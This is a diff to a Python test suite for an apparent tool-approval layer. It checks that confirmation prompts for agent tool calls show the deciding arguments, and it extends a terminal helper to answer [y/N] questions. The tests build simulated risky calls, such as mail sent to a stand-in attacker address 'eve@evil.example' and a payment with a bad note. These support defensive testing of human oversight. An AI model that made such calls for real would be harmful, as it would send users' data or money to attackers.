@@ -156,7 +156,7 @@ def test_no_value_writes_the_question_and_what_decides_is_first_and_last(served)
     dialogs, [send_mail, pay] = served(tools)
     with dialogs:
         for name in NAMES.values():
-            body = {name: [name, {"deep": name}], "many": list(range(200))}
+            body = {name: [name, {"deep": name}], "many": [0] * 200}
             call = f"{send_mail}(body={body!r}, to='eve@evil.example')"
             dialogs.send("tools/call", name="run_program", arguments={"source": call})
         dialogs.send("tools/call", name="run_program", arguments={"source": f"{pay}(note={BAD!r}, amount=90)"})
@@ -164,28 +164,27 @@ def test_no_value_writes_the_question_and_what_decides_is_first_and_last(served)
     assert len(dialogs.asked) == len(NAMES) + 2
     for question in dialogs.asked:
         check(question)
-        shown, _, again = question.partition("It is decided by:")
-        deciding = [line.strip() for line in again.splitlines() if "argument" in line]
-        first = [line.strip() for line in shown.splitlines() if "argument" in line][: len(deciding)]
-        assert deciding
-        assert first == deciding
-        assert any(line.startswith(("argument 'to' = ", "argument 'amount' = 90")) for line in first)
+        lines = [[line.strip() for line in part.splitlines() if "argument" in line] for part in question.split("\n\n")]
+        _, shown, *_, decides = lines
+        assert shown[: len(decides)] == decides
+        assert any(line.startswith(("argument 'to' = ", "argument 'amount' = 90")) for line in decides)
     assert re.search(r"'a\\nba.*' … '.*a\\nb' \(2,997 characters\)", dialogs.asked[-1])
 
 
-def at_a_terminal(folder, env, *words):
-    """What a command says at a terminal where somebody answers no, and its exit status."""
+def at_a_terminal(folder, env, *words, typed=(b"n\n",)):
+    """What a command says at a terminal, and its exit status; each of its questions gets what is `typed` in turn."""
     ours, theirs = pty.openpty()
     command = [sys.executable, "-c", MAIN, *map(str, words)]
     with subprocess.Popen(
         command, cwd=folder, env=env, stdin=theirs, stderr=theirs, stdout=subprocess.DEVNULL
     ) as process:
-        os.write(ours, b"n\n")
         os.close(theirs)
-        said = b""
+        said, answers = b"", iter(typed)
         with suppress(OSError):  # the end of a terminal
             while part := os.read(ours, 65_536):
                 said += part
+                if said.endswith(b"[y/N]: "):  # what is typed before the question is there is no answer
+                    os.write(ours, next(answers, b""))
         os.close(ours)
     return said.decode().replace("\r\n", "\n"), process.returncode
 
